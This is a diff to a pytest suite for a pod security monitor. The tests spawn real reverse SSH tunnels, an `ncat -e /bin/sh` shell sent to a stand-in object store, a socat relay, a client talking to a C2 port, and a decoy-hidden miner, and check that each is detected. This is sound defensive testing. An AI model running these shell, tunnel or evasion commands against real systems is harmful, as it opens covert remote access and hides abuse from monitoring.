@@ -258,13 +258,12 @@ while True:
     world.outside.signal(peer, signal.SIGKILL)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="open (found by this red team): a client bound with SO_REUSEPORT to a port a wildcard listener holds "
-    "looks inbound (the listener accepts on every address), so its egress to a port that is neither SSH nor a "
-    "pool is never judged; sock_diag does not say which sockets were accepted (docs/threat-model.md)",
-)
 def test_a_client_sharing_the_rendezvous_port_to_a_c2_port_is_undeclared_egress(world: World, judge: Judge) -> None:
+    """A client bound (SO_REUSEPORT) to the wildcard rendezvous listener's port 29500, as torch's TCPStore
+    binds it, talking to a C2 on 8443 (neither SSH nor a pool): it is on the listener, so the second
+    engine took it for inbound and never judged it. Inbound now also needs a client's (ephemeral) source
+    port at the far end; 8443 is a server's. The twin (the peer pod connecting in, judged inbound) is
+    in the test above."""
     c2 = world.pod.python(
         f"""
 import socket, time
@@ -484,8 +483,8 @@ SSH_OPTS = ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "User
 def test_ssh_forwards_in_any_spelling_and_not_ordinary_options(world: World, judge: Judge) -> None:
     """v1's pattern flagged `ssh -oUserKnownHostsFile=...` (it holds an R) and `ssh host ls -lR` as tunnels,
     and missed `-o 'RemoteForward ...'`. Real ssh clients, each to the allowed object store on 443 (the
-    working backdoor of the issue), one after another: the violation names each one as it comes. The
-    identity of a tool's violation is its name (`process:ssh`), so two at once would be one violation."""
+    working backdoor of the issue), one after another: the violation names each one as it comes (two
+    at once: the next test)."""
     need("ssh")
     twins = [
         world.pod.spawn("ssh", "-oUserKnownHostsFile=/dev/null", "-oStrictHostKeyChecking=no", "-oBatchMode=yes",
@@ -508,6 +507,37 @@ def test_ssh_forwards_in_any_spelling_and_not_ordinary_options(world: World, jud
     assert_clean(judge, training(judge), *twins)
     for pid in twins:
         world.pod.signal(pid, signal.SIGKILL)
+
+
+def test_a_second_tunnel_of_the_same_tool_is_a_violation_of_its_own(world: World, judge: Judge) -> None:
+    """The second engine keyed a tool's tunnel by its name (`process:ssh`): a second `ssh -R` to the
+    allowed 443, opened while the first stood, was in no decision (the quarantine's cut keeps that
+    connection and stops only the pid a decision names), and it stood on unreported after the first
+    was killed. Two real ssh clients: each is a `new` net.tunnel naming its own pid; killing the first
+    clears the first only."""
+    need("ssh")
+    first = world.pod.spawn("ssh", *SSH_OPTS, "-N", "-R", "2222:localhost:22", "-p", "443", OBJECT_STORE)
+    judge.until("the first tunnel", lambda: training(judge).standing("net.tunnel", first))
+    second = world.pod.spawn("ssh", *SSH_OPTS, "-N", "-R", "2223:localhost:22", "-p", "443", OBJECT_STORE)
+    alive = [first, second]
+    try:
+        v = judge.until(
+            "the second tunnel's own decision",
+            lambda: next((v for v in training(judge).new("net.tunnel") if v.evidence.get("pid") == second), None),
+        )
+        assert v.identity == f"process:ssh pid {second}"
+        world.pod.signal(alive.pop(0), signal.SIGKILL)
+        judge.until(
+            "the first tunnel cleared",
+            lambda: any(
+                d.kind == "cleared" and d.violation.evidence.get("pid") == first for d in training(judge).decisions
+            )
+            or None,
+        )
+        assert training(judge).standing("net.tunnel", second) is not None
+    finally:
+        for pid in alive:
+            world.pod.signal(pid, signal.SIGKILL)
 
 
 def test_ssh_with_a_config_file_and_dbclient_forwards(world: World, judge: Judge) -> None:
@@ -533,7 +563,7 @@ def test_socat_and_ncat_running_a_shell_for_the_peer(world: World, judge: Judge)
     ncat = world.pod.spawn("ncat", "-e", "/bin/sh", OBJECT_STORE, "443")
     relay = world.pod.spawn("socat", "-u", "FILE:/dev/null,ignoreeof", f"TCP:{OBJECT_STORE}:443")
     v = judge.until("socat EXEC", lambda: training(judge).standing("net.tunnel", socat))
-    assert v.identity == "process:socat"
+    assert v.identity == f"process:socat pid {socat}"
     judge.until("ncat -e", lambda: training(judge).standing("net.tunnel", ncat))
     assert_clean(judge, training(judge), relay)
     for pid in (socat, ncat, relay):
@@ -607,12 +637,12 @@ def test_a_deleted_executable_matches_no_allow_list(world: World, judge: Judge) 
 # --- the sensor's health ----------------------------------------------------------------------------------------------
 
 
-def test_a_miner_hidden_past_the_process_cap_is_sensor_degraded(world: World, judge: Judge) -> None:
+def test_a_miner_hidden_past_the_process_cap_is_sensor_capped(world: World, judge: Judge) -> None:
     """The sensor reports at most --max-processes processes, the lowest pids: a workload that spawns
     decoys first pushes a later miner out of the sample. A second real sensor with a small cap (16)
     shows it: the miner is absent, the cap is a `process_cap` error, and the engine raises
-    `sensor.degraded process_cap`. (Medium and debounced: the miner's Critical becomes a Medium; see
-    docs/threat-model.md.)"""
+    `sensor.capped process_cap`, Critical like the miner it hides (the second engine raised only
+    `sensor.degraded`, Medium: under a Quarantine-on-Critical ladder an Alert; docs/threat-model.md)."""
     miner_exe = world.work / "cap" / "xmrig"
     miner_exe.parent.mkdir()
     shutil.copy("/usr/bin/sleep", miner_exe)
@@ -626,7 +656,8 @@ def test_a_miner_hidden_past_the_process_cap_is_sensor_degraded(world: World, ju
         "--max-processes", "16", "--record", str(record),
     )  # fmt: skip
     try:
-        v = capped.until("sensor.degraded", lambda: next(iter(verdicts.new("sensor.degraded")), None), timeout=40)
+        v = capped.until("sensor.capped", lambda: next(iter(verdicts.new("sensor.capped")), None), timeout=40)
+        assert v.severity == "Critical"
         assert v.identity == "process_cap"
         assert all(miner not in {p.pid for p in s.processes} for s in capped.samples)  # hidden from this sensor
         assert verdicts.new("process.denied") == []
